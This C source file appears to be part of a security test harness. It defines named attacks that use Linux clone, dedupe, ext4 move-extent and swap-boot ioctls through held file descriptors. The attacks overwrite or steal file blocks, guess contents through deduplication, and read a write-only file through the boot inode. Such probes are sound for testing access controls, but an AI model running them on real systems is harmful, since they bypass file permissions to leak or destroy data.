/* SPDX-License-Identifier: (GPL-2.0 OR BSD-2-Clause) */
/* Contents that come into a file, leave it or are compared without being read or written: by ioctl, through held descriptors. */
#define _GNU_SOURCE
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <linux/types.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <unistd.h>

/* From fs/ext4/ext4.h, which has no header for programs. */
struct move_extent {
	__u32 reserved;
	__u32 donor_fd;
	__u64 orig_start;
	__u64 donor_start;
	__u64 len;
	__u64 moved_len;
};

#define EXT4_IOC_MOVE_EXT _IOWR('f', 15, struct move_extent)
#define EXT4_IOC_SWAP_BOOT _IO('f', 17)

#define BLOCK 4096

/* A file of the attacker's, one block of breaches, that is on the disk. */
static int own_file(const char *path)
{
	char block[BLOCK];
	int fd = must_open(path, O_RDWR | O_CREAT);

	for (size_t i = 0; i < sizeof(block); i++)
		block[i] = BREACH[i % strlen(BREACH)];
	if (write(fd, block, sizeof(block)) != sizeof(block) || fsync(fd))
		bad_scene(path);
	return fd;
}

static int clone_held(char **a)
{
	int from = own_file(a[0]), to = must_open(a[1], O_WRONLY);

	hold();
	return ioctl(to, FICLONE, from) ? refused("FICLONE") : 0;
}

static int clone_range_held(char **a)
{
	struct file_clone_range range = { .src_fd = own_file(a[0]), .src_length = BLOCK };
	int to = must_open(a[1], O_WRONLY);

	hold();
	return ioctl(to, FICLONERANGE, &range) ? refused("FICLONERANGE") : 0;
}

/* Tells whether both files hold the same. */
static int compare(int from, int to)
{
	struct file_dedupe_range *range = calloc(1, sizeof(*range) + sizeof(range->info[0]));
	struct stat stat;

	if (!range || fstat(from, &stat))
		bad_scene("fstat");
	range->src_length = stat.st_size;
	range->dest_count = 1;
	range->info[0].dest_fd = to;
	hold();
	if (ioctl(from, FIDEDUPERANGE, range))
		return refused("FIDEDUPERANGE");
	if (range->info[0].status < 0) {
		errno = -range->info[0].status;
		return refused("FIDEDUPERANGE, of the other file");
	}
	printf("it holds %s\n", range->info[0].status == FILE_DEDUPE_RANGE_SAME ? "the same" : "something else");
	return 0;
}

static int guess(const char *path, const char *content)
{
	int fd = must_open(path, O_RDWR | O_CREAT);

	if (dprintf(fd, "%s\n", content) < 0 || fsync(fd))
		bad_scene(path);
	return fd;
}

static int dedupe_held(char **a)
{
	return compare(must_open(a[0], O_RDONLY), guess(a[1], a[2]));
}

static int dedupe_into_held(char **a)
{
	return compare(guess(a[1], a[2]), must_open(a[0], O_RDWR));
}

/* The donor of blocks loses what is in them; what it was asked of keeps its contents, in other blocks. */
static int move_extents_donor_held(char **a)
{
	int from = own_file(a[0]), donor = must_open(a[1], O_RDWR);
	struct move_extent move = { .donor_fd = donor, .len = 1 };

	if (fsync(donor))
		bad_scene("fsync");
	hold();
	if (ioctl(from, EXT4_IOC_MOVE_EXT, &move))
		return refused("EXT4_IOC_MOVE_EXT");
	/* What is in memory of the donor is as before. */
	return posix_fadvise(donor, 0, 0, POSIX_FADV_DONTNEED) ? refused("posix_fadvise") : 0;
}

static int swap_boot_held(char **a)
{
	int fd = must_open(a[0], O_RDWR);

	hold();
	return ioctl(fd, EXT4_IOC_SWAP_BOOT) ? refused("EXT4_IOC_SWAP_BOOT") : 0;
}

/* Opened to write only; through the boot loader's inode the contents come to a file of the attacker's. */
static int swap_boot_out(char **a)
{
	int fd = open(a[0], O_WRONLY | O_CLOEXEC), own;

	if (fd < 0)
		return refused("open");
	own = own_file(a[1]);
	if (ioctl(fd, EXT4_IOC_SWAP_BOOT))
		return refused("EXT4_IOC_SWAP_BOOT");
	if (ioctl(own, EXT4_IOC_SWAP_BOOT) || lseek(own, 0, SEEK_SET))
		return refused("EXT4_IOC_SWAP_BOOT of the other file");
	return print_content(own);
}

const struct attack content_attacks[] = {
	{ "clone-held", "OWN FILE", clone_held },
	{ "clone-range-held", "OWN FILE", clone_range_held },
	{ "dedupe-held", "FILE OWN GUESS", dedupe_held },
	{ "dedupe-into-held", "FILE OWN GUESS", dedupe_into_held },
	{ "move-extents-donor-held", "OWN FILE", move_extents_donor_held },
	{ "swap-boot-held", "FILE", swap_boot_held },
	{ "swap-boot-out", "FILE OWN", swap_boot_out },
	{ 0 },
};
